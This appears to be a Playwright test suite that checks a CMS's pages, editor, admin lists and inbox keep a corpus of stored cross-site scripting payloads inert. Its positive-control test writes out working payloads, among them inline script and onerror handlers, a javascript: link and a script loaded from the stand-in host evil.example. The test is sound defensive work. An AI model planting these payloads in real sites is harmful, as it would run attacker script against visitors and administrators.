// Cross-site scripting in Chromium (issue F): every field staff or visitors can fill that the site
// or the admin shows (page title, slug, meta description, page HTML, every text and URL field of every
// section type, contact messages, subscribers, staff, audit entries) is filled from the XSS corpus
// (tests/fixtures/xss-payloads.ts) and rendered with the Content-Security-Policy switched off, so the
// markup alone must keep every payload inert. Pages are saved through the editor's real action over
// HTTP, so the server's validation and sanitising run; payloads validation refuses are also written
// straight into the database, so the renderers are proven safe without that help. A canary
// (tests/utils/xss-canary.ts) proves nothing ran: no hook call, no beacon request, no dialog, no
// handler or script URL left in the document, no navigation.
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type APIRequestContext, type BrowserContext, type Page } from "@playwright/test";
import { E2E_SERVER } from "#tests/utils/e2e-server.ts";
import { test } from "#tests/utils/e2e-test.ts";
import { XSS_PAYLOADS } from "#tests/fixtures/xss-payloads.ts";
import { insertContactSubmission, insertPage } from "#tests/utils/e2e-db.ts";
import { deletePagesWithSlugPrefix } from "#tests/utils/e2e-pages.ts";
import { waitForPageReady } from "#tests/utils/e2e-site.ts";
import { createE2eStaff } from "#tests/utils/e2e-staff.ts";
import { deleteHostileRows, insertHostileAuditEntries, insertHostileStaff, insertHostileSubscribers } from "#tests/utils/e2e-xss-rows.ts";
import { startXssCanary, type XssCanary } from "#tests/utils/xss-canary.ts";

test.describe.configure({ mode: "serial" });

const RUN = `x${Date.now().toString(36)}`;
const SLUG_PREFIX = `xss-${RUN}-`;
/** The section schemas' limits (app/sections/*\/schema.ts): a longer payload is cut to fit on the saved pages and stored whole on the raw ones. */
const LIMIT = { heading: 300, long: 1000, text: 5000, button: 100, person: 200, label: 200, alt: 300, title: 200, meta: 1000 } as const;
const SECTIONS_PER_PAGE = 100;
const ITEMS_PER_SECTION = 50;

let canary: XssCanary;
let context: BrowserContext;
let page: Page;
let origin: string;
/** The corpus, armed to report to this run's canary. */
let payloads: string[];
/** Per payload: does the editor's action accept it as a link, as an image URL? */
let acceptedAsLink: boolean[];
let acceptedAsImage: boolean[];

type Json = Record<string, unknown>;
interface CmsPage {
  id: string;
  slug: string;
  /** Reachable at /{slug} (saved and published; raw slugs are not normalised). */
  isPublic: boolean;
  html: boolean;
  /** Opened in the editor too (see the editor test for which pages are). */
  inEditor: boolean;
  /** Holds payloads in its body, not only in its title and meta description. */
  hasBody: boolean;
}
const pages: CmsPage[] = [];

test.beforeAll(async ({ browser }) => {
  canary = await startXssCanary();
  payloads = XSS_PAYLOADS.map((payload, id) => canary.arm(payload, id));
  context = await browser.newContext({ bypassCSP: true, viewport: { width: 1280, height: 900 } });
  await canary.watch(context);
  page = await context.newPage();
  // An Admin of this run's own (removed afterwards with the other marked rows), signed in over HTTP
  // into the browser's cookie jar: the sign-in screen is not what this file tests.
  origin = E2E_SERVER.origin;
  const admin = await createE2eStaff(`admin.${RUN}@brandcheck.test`, "admin");
  const signIn = await context.request.post("/api/auth/sign-in/email", { data: admin, headers: { origin } });
  expect(signIn.status(), await signIn.text()).toBe(200);
});

test.afterAll(async () => {
  deletePagesWithSlugPrefix(SLUG_PREFIX);
  deleteHostileRows(RUN);
  await context?.close();
  await canary?.close();
});

const newId = () => crypto.randomUUID();
const fit = (value: string, max: number) => value.trim().slice(0, max) || "x";

/** Joins values into as few strings of at most `max` characters as fit (text fields escape all of it, so neighbours cannot interact). */
function pack(values: readonly string[], max: number): string[] {
  const packed: string[] = [];
  let current = "";
  for (const value of values.map((v) => v.slice(0, max))) {
    if (current && current.length + 1 + value.length > max) {
      packed.push(current);
      current = "";
    }
    current = current ? `${current} ${value}` : value;
  }
  if (current) packed.push(current);
  return packed;
}

function chunks<T>(values: readonly T[], size: number): T[][] {
  return Array.from({ length: Math.ceil(values.length / size) }, (_, index) => values.slice(index * size, (index + 1) * size));
}

/** The editor's save, as its form sends it: intent, the page as JSON and, for an edit, the version it started from. */
function saveForm(draft: Json, version?: number): Record<string, string> {
  return { intent: "save", page: JSON.stringify(draft), ...(version === undefined ? {} : { version: String(version) }) };
}

async function post(request: APIRequestContext, path: string, form: Record<string, string>) {
  return request.post(path, { form, headers: { origin }, maxRedirects: 0 });
}

/** Creates a published page through the editor's action; returns its id from the redirect to its editor. */
type PageKind = Pick<CmsPage, "html" | "inEditor" | "hasBody">;

async function savePage(title: string, slug: string, metaDescription: string, content: Json, kind: PageKind): Promise<void> {
  const response = await post(context.request, "/admin/pages/new", saveForm({ title, slug, metaDescription, isPublished: true, content }));
  expect(response.status(), `saving ${slug}: ${(await response.text()).slice(0, 300)}`).toBe(302);
  const id = /\/admin\/pages\/edit\/([^/?]+)/.exec(response.headers()["location"] ?? "")![1]!;
  pages.push({ id, slug, isPublic: true, ...kind });
}

/** A page written straight into the table; visitors can open it when its slug is one the site would have made. */
function saveRawPage(title: string, slug: string, metaDescription: string, content: Json, kind: PageKind): void {
  const isPublic = /^[a-z0-9_-]+$/.test(slug);
  pages.push({ id: insertPage({ title, slug, metaDescription, content, isPublished: true }), slug, isPublic, ...kind });
}

/**
 * Which payloads the action accepts as a link and as an image URL: each is sent in a section of its
 * own, a hundred sections to a save of the probe page that names a version that does not exist. If
 * the action accepts them all it answers 409 (conflict, nothing written); otherwise 400 with the
 * problems by section id, so a section whose id is in the answer holds a refused payload.
 */
async function probeUrlFields(): Promise<void> {
  await savePage(`${RUN} probe`, `${SLUG_PREFIX}probe`, "", { sections: [] }, { html: false, inEditor: false, hasBody: false });
  const probe = pages.pop()!;
  const accepted = async (section: (payload: string) => Json): Promise<boolean[]> => {
    const verdicts: boolean[] = [];
    for (const batch of chunks(payloads, SECTIONS_PER_PAGE)) {
      const sections = batch.map((payload, order) => ({ id: newId(), order, ...section(payload) }));
      const response = await post(
        context.request,
        // The route's data URL: the action's answer without rendering the whole editor around it.
        `/admin/pages/edit/${probe.id}.data`,
        saveForm({ title: "Probe", slug: probe.slug, metaDescription: "", isPublished: false, content: { sections } }, 999_999),
      );
      expect([400, 409], `probe answered ${response.status()}`).toContain(response.status());
      const answer = await response.text();
      const refused = sections.map(({ id }) => response.status() === 400 && answer.includes(id));
      if (response.status() === 400) expect(refused, `a 400 names the sections it refused: ${answer.slice(0, 300)}`).toContain(true);
      verdicts.push(...refused.map((no) => !no));
    }
    return verdicts;
  };
  acceptedAsLink = await accepted((payload) => ({ type: "cta", heading: "H", subheading: "", buttonText: "B", buttonLink: payload }));
  acceptedAsImage = await accepted((payload) => ({ type: "gallery", images: [{ id: newId(), url: payload, alt: "" }] }));
  // The corpus's bare javascript: URLs must be among the refused, or the probe proves nothing.
  expect(acceptedAsLink[XSS_PAYLOADS.indexOf("javascript:alert(1)")]).toBe(false);
  expect(acceptedAsImage[XSS_PAYLOADS.indexOf("javascript:alert(1)")]).toBe(false);
}

/** Every section type with payload `index` in every field, as the action accepts it (too long cut, refused URLs replaced). */
function perPayloadSections(index: number): Json[] {
  const payload = payloads[index]!;
  const link = acceptedAsLink[index] ? payload : "/contact";
  const image = acceptedAsImage[index] ? payload : "";
  return [
    { type: "hero", heading: fit(payload, LIMIT.heading), subheading: fit(payload, LIMIT.long), backgroundImage: image, buttonText: fit(payload, LIMIT.button), buttonLink: link },
    { type: "cta", heading: fit(payload, LIMIT.heading), subheading: fit(payload, LIMIT.long), buttonText: fit(payload, LIMIT.button), buttonLink: link },
    { type: "text", content: payload },
    { type: "video", eyebrow: fit(payload, 100), heading: fit(payload, LIMIT.heading), videoUrl: "https://youtu.be/aqz-KE-bpKQ", title: fit(payload, 150), caption: fit(payload, 300) },
  ];
}

/** Item-holding section types, up to 50 payloads each: features, gallery images, testimonials, contact fields, logos, badges, people, offices. */
function itemSections(batch: number[]): Json[] {
  const first = payloads[batch[0]!]!;
  const image = (i: number) => (acceptedAsImage[i] ? payloads[i] : "");
  const link = (i: number) => (acceptedAsLink[i] ? payloads[i] : "");
  return [
    { type: "logo-wall", heading: fit(first, LIMIT.heading), logos: batch.map((i) => ({ id: newId(), name: fit(payloads[i]!, 100), image: image(i), link: link(i) })) },
    {
      type: "accreditations",
      heading: fit(first, LIMIT.heading),
      items: batch.map((i) => ({ id: newId(), title: fit(payloads[i]!, 120), description: fit(payloads[i]!, 200), badge: image(i), link: link(i) })),
    },
    { type: "team", heading: fit(first, LIMIT.heading), members: batch.map((i) => ({ id: newId(), name: fit(payloads[i]!, 100), role: fit(payloads[i]!, 120), office: fit(payloads[i]!, 80), image: image(i) })) },
    {
      type: "office-locations",
      heading: fit(first, LIMIT.heading),
      offices: batch.map((i) => ({ id: newId(), city: fit(payloads[i]!, 80), address: fit(payloads[i]!, 500), timeZone: "Europe/London", mapLink: link(i) })),
    },
    { type: "feature", heading: fit(first, LIMIT.heading), items: batch.map((i) => ({ id: newId(), title: fit(payloads[i]!, LIMIT.heading), description: fit(payloads[i]!, LIMIT.text) })) },
    { type: "gallery", images: batch.map((i) => ({ id: newId(), url: acceptedAsImage[i] ? payloads[i] : "/images/office.svg", alt: fit(payloads[i]!, LIMIT.alt) })) },
    {
      type: "testimonial",
      items: batch.map((i) => ({
        id: newId(),
        quote: fit(payloads[i]!, LIMIT.text),
        author: fit(payloads[i]!, LIMIT.person),
        position: fit(payloads[i]!, LIMIT.person),
        avatar: acceptedAsImage[i] ? payloads[i] : "",
      })),
    },
    {
      type: "contact",
      heading: fit(first, LIMIT.heading),
      subheading: fit(first, LIMIT.long),
      fields: batch.map((i) => ({ id: newId(), type: ["text", "email", "textarea"][i % 3], label: fit(payloads[i]!, LIMIT.label), required: i % 2 === 0 })),
    },
  ];
}

/** Sections numbered in order, split into pages of at most 100. */
function sectionPages(sections: Json[]): Json[][] {
  return chunks(sections, SECTIONS_PER_PAGE).map((list) => list.map((section, order) => ({ id: newId(), order, ...section })));
}

/** Each payload in a block of its own, so one left open cannot swallow the next unseen. */
const htmlBatches = () => chunks(payloads, 90).map((batch) => batch.map((payload) => `<div>${payload}</div>`).join("\n"));

/**
 * The positive control: each way a payload can show itself (a hook call from an inline script or a
 * handler, a script fetched from the beacon, a dialog, a script URL left in the markup) must trip the
 * canary, or every "nothing ran" below would prove nothing. The site escapes all of these, so the
 * markup comes from a small server of the test's own on 127.0.0.1 (a response made up by page.route
 * would not do: Chromium counts it as a public page and blocks its requests to loopback).
 */
test("the canary trips on payloads that do run", async () => {
  const running = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<script src=//evil.example/control.js></script>",
    // Out of the arming's reach, so a real dialog opens.
    "<script>window['al' + 'ert']('dialog')</script>",
    "<a href=\"javascript:alert(5)\">link</a>",
  ].map((payload, id) => canary.arm(payload, 10_000 + id));
  const server = createServer((request, response) => {
    const armed = running[Number(new URL(request.url ?? "/", "http://x").searchParams.get("n"))] ?? "";
    response.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><body>${armed}</body>`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    for (const [n, armed] of running.entries()) {
      await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/control?n=${n}`);
      await expect(canary.expectNothingRan(page, `the control ${armed}`), armed).rejects.toThrow(/something a payload planted ran/);
    }
  } finally {
    await new Promise<void>((resolve) => server.close(() => resolve()));
  }
});

test("pages built from every payload in every field are saved through the editor's action, and stored raw", async () => {
  test.setTimeout(180_000);
  await probeUrlFields();
  const indexes = payloads.map((_, index) => index);
  const titles = pack(payloads, LIMIT.title - RUN.length - 1).map((title) => `${RUN} ${title}`);
  const metas = pack(payloads, LIMIT.meta);
  let next = 0;
  const pageFields = () => {
    const n = next++;
    // The slug is sent hostile too; the action normalises it.
    return { title: titles[n % titles.length]!, slug: `${SLUG_PREFIX}${n}-${payloads[n % payloads.length]}`, meta: metas[n % metas.length]! };
  };
  const savedSlug = (slug: string) => slug.toLowerCase().replace(/\s+/g, "-").replace(/[^a-z0-9_-]/g, "").slice(0, 100);

  // A hundred sections of inputs and rich-text editors take the editor long to open, so it opens the
  // first page of one section per payload (hero and CTA panels), the item sections (every payload in
  // features, image thumbnails, testimonials, contact fields) and the text sections in blocks.
  const perPayload = sectionPages(indexes.flatMap(perPayloadSections));
  const inEditor = [...sectionPages(chunks(indexes, ITEMS_PER_SECTION).flatMap(itemSections)), ...sectionPages(htmlBatches().map((content) => ({ type: "text", content })))];
  for (const [n, sections] of [...perPayload, ...inEditor].entries()) {
    const { title, slug, meta } = pageFields();
    await savePage(title, slug, meta, { sections }, { html: false, inEditor: n === 0 || n >= perPayload.length, hasBody: true });
    pages.at(-1)!.slug = savedSlug(slug);
  }
  for (const html of htmlBatches()) {
    const { title, slug, meta } = pageFields();
    await savePage(title, slug, meta, { html }, { html: true, inEditor: true, hasBody: true });
    pages.at(-1)!.slug = savedSlug(slug);
  }
  // Every title and meta description at least once on a page visitors can open: the ones the pages
  // above did not take, all on one page written straight into the table (a saved title holds at most
  // 200 characters, which took a page per title). Both are shown as escaped text, so neighbours cannot interact.
  if (next < Math.max(titles.length, metas.length)) {
    const title = titles.slice(next).join(" ") || `${RUN} titles`;
    saveRawPage(title, `${SLUG_PREFIX}raw-titles-${newId()}`, metas.slice(next).join(" "), { html: "<p>Text</p>" }, { html: true, inEditor: false, hasBody: false });
  }

  // Raw: the same HTML unsanitised, every section with whole payloads and refused URLs, and one
  // page per payload with that payload as its title, slug, meta description and HTML.
  for (const html of htmlBatches()) saveRawPage(`${RUN} raw html`, `${SLUG_PREFIX}raw-html-${newId()}`, "", { html }, { html: true, inEditor: true, hasBody: true });
  // (Sections whose URLs the action accepts are on the saved pages already.)
  const raw = indexes.flatMap((i) => [
    { type: "text", content: payloads[i] },
    ...(acceptedAsLink[i] && acceptedAsImage[i]
      ? []
      : [
          { type: "hero", heading: payloads[i], subheading: payloads[i], backgroundImage: payloads[i], buttonText: payloads[i], buttonLink: payloads[i] },
          { type: "cta", heading: payloads[i], subheading: payloads[i], buttonText: payloads[i], buttonLink: payloads[i] },
        ]),
  ]);
  for (const sections of sectionPages(raw)) saveRawPage(`${RUN} raw sections`, `${SLUG_PREFIX}raw-sections-${newId()}`, "", { sections }, { html: false, inEditor: false, hasBody: true });
  const rawText = sectionPages(htmlBatches().map((content) => ({ type: "text", content })))[0]!;
  saveRawPage(`${RUN} raw text blocks`, `${SLUG_PREFIX}raw-text-${newId()}`, "", { sections: rawText }, { html: false, inEditor: true, hasBody: true });
  for (const [i, payload] of payloads.entries()) saveRawPage(`${RUN} ${payload}`, `${SLUG_PREFIX}raw-${i}-${payload}`, payload, { html: payload }, { html: true, inEditor: false, hasBody: true });

  expect(acceptedAsLink.filter((ok) => !ok).length, "some payloads are refused as links").toBeGreaterThan(10);
  expect(pages.filter((p) => p.isPublic).length).toBeGreaterThan(15);
});

async function open(path: string): Promise<void> {
  await page.goto(path);
  await waitForPageReady(page);
}

test("visitors' pages at /{slug} run none of it", async () => {
  test.setTimeout(300_000);
  for (const cms of pages.filter((p) => p.isPublic)) {
    if (cms.hasBody) await open(`/${cms.slug}`);
    // A page that only carries a title and meta description (in <head>) has nothing to wait for or wake.
    else await page.goto(`/${cms.slug}`);
    await expect(page.locator("main").first()).toBeVisible();
    await canary.expectNothingRan(page, `/${cms.slug}`, { wake: cms.hasBody });
  }
});

test("the page editor (visual editor, HTML editor, Preview tab) runs none of it", async () => {
  test.setTimeout(300_000);
  for (const cms of pages.filter((p) => p.inEditor)) {
    await open(`/admin/pages/edit/${cms.id}`);
    await expect(page.getByRole("heading", { level: 1, name: "Edit Page" })).toBeVisible();
    const editor = cms.html ? page.getByRole("textbox", { name: "Page HTML" }) : page.getByRole("list", { name: "Page sections" });
    await expect(editor).toBeVisible();
    await canary.expectNothingRan(page, `the editor of ${cms.slug}`);

    const cleaned = page.waitForResponse((response) => new URL(response.url()).pathname.startsWith("/admin/pages/preview"));
    await page.getByRole("tab", { name: "Preview" }).click();
    expect((await cleaned).ok()).toBe(true);
    await expect(page.getByRole("article", { name: "Page preview" })).toBeVisible();
    await canary.expectNothingRan(page, `the preview of ${cms.slug}`);
  }
});

test("the pages list runs none of it", async () => {
  test.setTimeout(120_000);
  await open(`/admin/pages?q=${RUN}`);
  for (let list = 1; ; list++) {
    await expect(page.getByRole("table").first()).toBeVisible();
    await canary.expectNothingRan(page, `pages list ${list}`);
    const nextLink = page.locator('a[rel="next"]');
    if ((await nextLink.count()) === 0) break;
    const next = new URL((await nextLink.getAttribute("href"))!, page.url());
    await open(`${next.pathname}${next.search}`);
  }
});

test("the contact inbox (table and each message's detail dialog) runs none of it", async () => {
  test.setTimeout(120_000);
  const page0 = pages.find((p) => p.isPublic)!;
  const ids = chunks(payloads, 12).map((batch, index) => {
    const text = batch.join(" ");
    return insertContactSubmission({
      name: text,
      email: batch[0]!,
      company: text,
      message: `${text}\n${RUN}`,
      pageId: index % 2 === 0 ? page0.id : null,
      sourcePath: batch[1] ?? batch[0]!,
      extraFields: batch.map((payload) => ({ label: payload, value: payload })),
    });
  });
  await open(`/admin/contact-submissions?q=${RUN}`);
  await expect(page.getByRole("table").first()).toBeVisible();
  await canary.expectNothingRan(page, "the contact inbox");
  // The first message through a full load (the server's render of the dialog); the others as staff
  // open them, with View in the list: a client-side navigation, without loading the admin again for each.
  for (const [n, id] of ids.entries()) {
    const view = page.locator(`a[href*="view=${id}"]`).first();
    if (n === 0 || (await view.count()) === 0) await open(`/admin/contact-submissions?q=${RUN}&view=${id}`);
    else await view.click();
    await expect(page.getByRole("dialog")).toBeVisible();
    await expect(page).toHaveURL(new RegExp(`view=${id}`));
    await canary.expectNothingRan(page, `the message ${id}`);
    await page.keyboard.press("Escape");
    await expect(page.getByRole("dialog")).toBeHidden();
  }
});

test("the subscribers list, the users list and the dashboard's recent activity run none of it", async () => {
  test.setTimeout(120_000);
  insertHostileSubscribers(RUN, pack(payloads, 600));
  insertHostileStaff(RUN, pack(payloads, 600));
  // Recent Activity shows the latest 8 entries.
  insertHostileAuditEntries(RUN, chunks(payloads, Math.ceil(payloads.length / 8)).map((batch) => batch.join(" ")));

  await open(`/admin/subscribers?q=${RUN}`);
  await expect(page.getByRole("table").first()).toBeVisible();
  await canary.expectNothingRan(page, "the subscribers list");

  await open(`/admin/users?q=${RUN}`);
  await expect(page.getByRole("table").first()).toBeVisible();
  await canary.expectNothingRan(page, "the users list");

  await open("/admin/dashboard");
  await expect(page.getByText(RUN).first()).toBeVisible();
  await canary.expectNothingRan(page, "the dashboard");
});
